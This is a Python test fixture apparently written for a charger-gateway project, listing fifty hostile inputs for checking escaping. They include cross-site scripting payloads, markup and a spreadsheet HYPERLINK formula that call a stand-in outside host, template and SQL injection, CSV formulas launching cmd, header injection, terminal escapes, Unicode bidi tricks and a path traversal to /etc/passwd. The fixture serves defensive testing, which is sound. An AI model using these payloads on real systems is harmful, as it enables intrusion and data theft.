"""List fifty hostile texts that a charger or a person may send to attack those who read them.

Each script that ran would set `window.__xss` or send a request to another origin. Written for this project; the kinds are
OWASP's (cross-site scripting, CSV and template injection, terminal escapes) and Unicode's (UAX 9 overrides, UTS 39
lookalikes).
"""

_RUN = "window.__xss=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    "<script src=//elsewhere.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}' ",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<a href=javascript:{_RUN}>x</a>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<form action=//elsewhere.example/><button>Log in</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
)
ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}" x="',
    f"` onmouseover={_RUN} `",
    f'" hx-on:load="{_RUN}" x="',
    '" hx-get="//elsewhere.example/" hx-trigger="load" x="',
    f'"></svg><script>{_RUN}</script>',
    f"javascript:{_RUN}//",
    f"&#x3C;script&#x3E;{_RUN}&#x3C;/script&#x3E;",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
)
OTHERS = (
    "{{ cycler.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}",
    "%(secret)s %s %n",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1\r\nSet-Cookie: edgegw_login=x",
    "data: x\n\nevent: price\ndata: 0",
    "\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "\u202eTOBOR\u202c\u2066x\u2069",
    "edge\u0000gw\u0008\ufeff\u2028\u2029",
    "'; DROP TABLE persons; --",
    "../../../../etc/passwd%00",
)
HOSTILE = (*MARKUP, *ATTRIBUTES, *OTHERS)
assert len(HOSTILE) == len(set(HOSTILE)) == 50
